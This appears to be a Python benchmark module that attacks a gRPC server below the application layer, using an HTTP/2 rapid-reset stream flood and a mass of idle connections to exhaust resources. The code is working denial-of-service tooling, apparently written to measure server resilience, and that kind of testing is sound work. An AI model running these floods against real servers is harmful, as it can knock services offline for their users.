"""Attacks on a server below gRPC: frames of HTTP/2 (RFC 9113), and connections that are never used.

Run in a separate process, because the attacker must not share an interpreter with the clients that are measured::

    python -m benchmarks.http2 reset HOST:PORT --connections 4 --seconds 5
    python -m benchmarks.http2 idle HOST:PORT --connections 2000 --seconds 5
"""

from __future__ import annotations

import argparse
import contextlib
import resource
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_HEADERS, END_STREAM, ACK = 4, 1, 1
CANCEL = 8
BURST = 50  # streams in one write


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def headers(path: str, authority: str) -> bytes:
    """Header block of a gRPC call, without compression (RFC 7541)."""

    def literal(name: bytes, value: str) -> bytes:
        return name + bytes((len(value),)) + value.encode()

    return (
        b"\x83\x86"  # POST, http
        + literal(b"\x04", path)
        + literal(b"\x01", authority)
        + literal(b"\x0f\x10", "application/grpc")
        + literal(b"\x00\x02te", "trailers")
    )


def reset(host: str, port: int, until: float, message: bytes) -> int:
    """Opens streams and cancels them at once, on one connection after another; returns how many."""
    block, streams = headers("/inference.GRPCInferenceService/ModelInfer", f"{host}:{port}"), 0
    body = b"\0" + len(message).to_bytes(4) + message
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=5) as connection:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            reader = threading.Thread(target=_discard, args=(connection,), daemon=True)
            reader.start()
            for first in range(1, 2**31 - 2 * BURST, 2 * BURST):
                burst = b"".join(
                    frame(HEADERS, END_HEADERS, stream, block)
                    + frame(DATA, END_STREAM, stream, body)
                    + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))
                    for stream in range(first, first + 2 * BURST, 2)
                )
                connection.sendall(burst)
                streams += BURST
                if time.monotonic() > until:
                    break
    return streams


def _discard(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(65536):
            pass


def idle(host: str, port: int, connections: int, until: float, *, speak: bool) -> int:
    """Holds connections that send nothing, or only HTTP/2's preface; returns how many the server accepted."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, connections + 100)), hard))
    held = list[socket.socket]()
    for _ in range(connections):
        with contextlib.suppress(OSError):
            connection = socket.create_connection((host, port), timeout=1)
            held.append(connection)
            if speak:
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    print(len(held), flush=True)
    time.sleep(max(0.0, until - time.monotonic()))
    for connection in held:
        connection.close()
    return len(held)


@contextlib.contextmanager
def attack(kind: str, address: str, connections: int, seconds: float, *options: str) -> Iterator[subprocess.Popen[str]]:
    """An attack from a separate process."""
    command = [sys.executable, "-m", "benchmarks.http2", kind, address, *options]
    command += ["--connections", str(connections), "--seconds", str(seconds)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        try:
            yield process
        finally:
            process.kill()


def main() -> None:
    """Attacks as the command line says, and prints how many streams or connections there were."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("kind", choices=("reset", "idle"))
    parser.add_argument("address")
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--message", default="", help="hexadecimal message of each stream")
    parser.add_argument("--speak", action="store_true", help="idle connections send the preface of HTTP/2")
    args = parser.parse_args()
    host, _, port = args.address.rpartition(":")
    until = time.monotonic() + args.seconds
    if args.kind == "idle":
        idle(host, int(port), args.connections, until, speak=args.speak)
        return
    counts = list[int]()

    def work() -> None:
        counts.append(reset(host, int(port), until, bytes.fromhex(args.message)))

    threads = [threading.Thread(target=work) for _ in range(args.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(sum(counts), flush=True)


if __name__ == "__main__":
    main()
